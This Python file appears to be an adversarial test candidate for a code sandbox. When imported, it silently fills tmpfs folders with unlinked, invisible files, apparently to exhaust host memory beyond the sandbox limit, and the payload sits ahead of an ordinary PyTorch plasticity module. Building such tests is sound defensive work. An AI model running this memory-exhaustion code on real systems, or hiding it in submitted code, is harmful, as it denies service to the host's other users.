"""Fill /dev/shm, /tmp, /run and /var/tmp with write(), in files unlinked right after opening.

Attack: pages of a tmpfs file written with ``write()`` are never mapped into the process, so
an address-space limit (RLIMIT_AS) does not see them, and a fresh private tmpfs without a size
limit may grow to half the host's memory, each. Files are unlinked once opened: invisible to
``ls``, freed only when the process ends. Up to 2 GB per folder and 6 GB in all, within 30 s
(bounded). Write errors are not caught: a size-limited tmpfs or a memory cgroup makes this
candidate fail.
Target: host memory outside the sandbox's memory limit.

expected: refused
category: process
static: rejected
check: peak memory charged to the capture (tmpfs included) stays within its limit
"""

import os
import time

import torch
import torch.nn as nn

CHUNK = b"\xa5" * (64 << 20)
PER_FOLDER, TOTAL, SECONDS = 2 << 30, 6 << 30, 30

_held, _written, _started = [], 0, time.monotonic()
for _folder in ("/dev/shm", "/tmp", "/run", "/var/tmp"):
    _path = os.path.join(_folder, f".sga-hostile-fill-{os.getpid()}")
    try:
        _fd = os.open(_path, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600)
    except OSError:
        continue
    os.unlink(_path)
    _held.append(_fd)
    _here = 0
    while _here < PER_FOLDER and _written < TOTAL and time.monotonic() - _started < SECONDS:
        _count = os.write(_fd, CHUNK)  # ENOSPC / EFBIG propagate
        _here, _written = _here + _count, _written + _count
if not _held:
    raise OSError("no writable folder to fill")


class Physics(nn.Module):
    def __init__(self, yield_strain: float = 0.02):
        """Von Mises return mapping on the Hencky strain."""
        super().__init__()
        self.yield_strain = nn.Parameter(torch.tensor(yield_strain))

    def forward(self, F: torch.Tensor) -> torch.Tensor:
        U, sigma, Vh = torch.linalg.svd(F)
        eps = torch.log(sigma.clamp(min=0.05))
        dev = eps - eps.mean(-1, keepdim=True)
        norm = dev.norm(dim=-1, keepdim=True).clamp(min=1e-12)
        eps = eps - torch.relu(1 - self.yield_strain / norm) * dev
        return U @ torch.diag_embed(torch.exp(eps)) @ Vh
